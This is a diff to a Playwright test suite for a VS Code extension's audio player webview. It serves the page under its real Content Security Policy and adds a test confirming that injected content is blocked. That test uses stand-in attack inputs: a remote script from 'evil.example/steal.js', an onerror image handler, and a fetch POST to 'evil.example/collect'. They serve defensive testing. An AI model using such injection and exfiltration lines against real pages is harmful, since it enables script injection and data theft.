@@ -4,33 +4,46 @@
 import * as assert from 'node:assert/strict';
 import { existsSync, readFileSync } from 'node:fs';
 import * as path from 'node:path';
+import { randomBytes } from 'node:crypto';
 import { Browser, Page, chromium } from 'playwright-core';
+import { playerHtml } from '../../src/player/html';
 import type { FromPlayer, ToPlayer } from '../../src/player/messages';
 
 const root = path.join(__dirname, '..', '..', '..');
 /* eslint-disable @typescript-eslint/no-explicit-any -- page.evaluate callbacks run in the browser */
 
-/** The webview's HTML body as PlayerView renders it, with the bundled script inlined. */
-function playerPage(): string {
-  const view = readFileSync(path.join(root, 'src', 'player', 'playerView.ts'), 'utf8');
-  const body = /<body>([\s\S]*?)<script nonce/.exec(view)![1];
-  const css = readFileSync(path.join(root, 'media', 'player.css'), 'utf8');
-  return `<!DOCTYPE html><html><head><style>${css}</style></head><body>${body}</body></html>`;
+/** The page is served from this origin (as VS Code serves webview resources), under the real Content Security Policy. */
+const ORIGIN = 'https://webview.test';
+
+function servedFiles(nonce: string): Record<string, { body: string; contentType: string }> {
+  const html = playerHtml({ nonce, cspSource: ORIGIN, scriptUri: `${ORIGIN}/dist/player.js`, styleUri: `${ORIGIN}/media/player.css` });
+  return {
+    '/index.html': { body: html, contentType: 'text/html' },
+    '/dist/player.js': { body: readFileSync(path.join(root, 'dist', 'player.js'), 'utf8'), contentType: 'text/javascript' },
+    '/media/player.css': { body: readFileSync(path.join(root, 'media', 'player.css'), 'utf8'), contentType: 'text/css' },
+  };
 }
 
 function tone(samples: number): number[] {
   return Array.from({ length: samples }, (_, i) => Math.round(Math.sin((i * 2 * Math.PI * 440) / 24000) * 8000));
 }
 
-async function openPlayer(browser: Browser): Promise<Page> {
-  const page = await browser.newPage();
-  await page.setContent(playerPage());
-  await page.evaluate(() => {
+/** Opens the player page; `emulate` runs first in the page (before VS Code's API and the player's script). */
+async function openPlayer(target: { newPage(): Promise<Page> }, emulate?: () => void): Promise<Page> {
+  const page = await target.newPage();
+  if (emulate) await page.addInitScript(emulate);
+  const files = servedFiles(randomBytes(16).toString('base64'));
+  await page.route(`${ORIGIN}/**`, (route) => {
+    const file = files[new URL(route.request().url()).pathname];
+    return file ? route.fulfill({ status: 200, body: file.body, contentType: file.contentType }) : route.fulfill({ status: 404, body: '' });
+  });
+  // What VS Code provides to every webview before its scripts run.
+  await page.addInitScript(() => {
     const w = globalThis as unknown as { reports: unknown[]; acquireVsCodeApi: () => unknown };
     w.reports = [];
     w.acquireVsCodeApi = () => ({ postMessage: (m: unknown) => w.reports.push(m) });
   });
-  await page.addScriptTag({ content: readFileSync(path.join(root, 'dist', 'player.js'), 'utf8') });
+  await page.goto(`${ORIGIN}/index.html`);
   await waitForReport(page, (m) => m.type === 'ready');
   return page;
 }
@@ -94,6 +107,33 @@ describe('player webview script in Chromium', function () {
     assert.ok(!(await reports(page)).some((m) => m.type === 'underrun'), 'no gaps while frames kept coming');
     assert.match((await page.textContent('#now')) ?? '', /Hello world/);
     assert.equal(await page.textContent('#status'), 'Finished.');
+    await page.close();
+  });
+
+  it('enforces its Content Security Policy: injected scripts, remote resources and requests are refused', async () => {
+    const page = await openPlayer(browser);
+    const outcome = await page.evaluate(async () => {
+      const w = globalThis as any;
+      const document = w.document;
+      const refused: string[] = [];
+      document.addEventListener('securitypolicyviolation', (e: any) => refused.push(e.effectiveDirective));
+      w.ran = [];
+      const inline = document.createElement('script');
+      inline.textContent = 'window.ran.push("inline script")';
+      document.body.append(inline);
+      const remote = document.createElement('script');
+      remote.src = 'https://evil.example/steal.js';
+      document.body.append(remote);
+      const handler = document.createElement('div');
+      handler.innerHTML = '<img src="https://evil.example/pixel.png" onerror="window.ran.push(\'handler\')">';
+      document.body.append(handler);
+      await fetch('https://evil.example/collect', { method: 'POST', body: 'code' }).catch(() => undefined);
+      await new Promise((r) => setTimeout(r, 300));
+      return { refused: [...new Set(refused)].sort(), ran: w.ran as string[] };
+    });
+    assert.deepEqual(outcome.ran, [], 'nothing injected ran');
+    for (const directive of ['connect-src', 'img-src', 'script-src-attr', 'script-src-elem']) assert.ok(outcome.refused.includes(directive), `${directive} refused: ${outcome.refused}`);
+    assert.ok((await reports(page)).some((m) => m.type === 'ready'), 'while the player\'s own script runs');
     await page.close();
   });
 
@@ -164,9 +204,7 @@ describe('player webview script in Chromium', function () {
     // suspended and resume() only takes effect while a real (trusted) click or key press is handled.
     // (navigator.userActivation cannot be used: Playwright evaluates scripts as user gestures.)
     const context = await browser.newContext();
-    const page = await context.newPage();
-    await page.setContent(playerPage());
-    await page.evaluate(() => {
+    const page = await openPlayer(context, () => {
       const g = globalThis as any;
       const Real = g.AudioContext;
       let inGesture = false;
@@ -197,12 +235,6 @@ describe('player webview script in Chromium', function () {
       };
     });
     try {
-      await page.evaluate(() => {
-        const w = globalThis as any;
-        w.reports = [];
-        w.acquireVsCodeApi = () => ({ postMessage: (m: unknown) => w.reports.push(m) });
-      });
-      await page.addScriptTag({ content: readFileSync(path.join(root, 'dist', 'player.js'), 'utf8') });
       const ready = (await waitForReport(page, (m) => m.type === 'ready')) as Extract<FromPlayer, { type: 'ready' }>;
       assert.equal(ready.audioUnlocked, false);
       await send(page, { type: 'begin', readingId: 8, text: 'Blocked', sampleRate: 24000 });
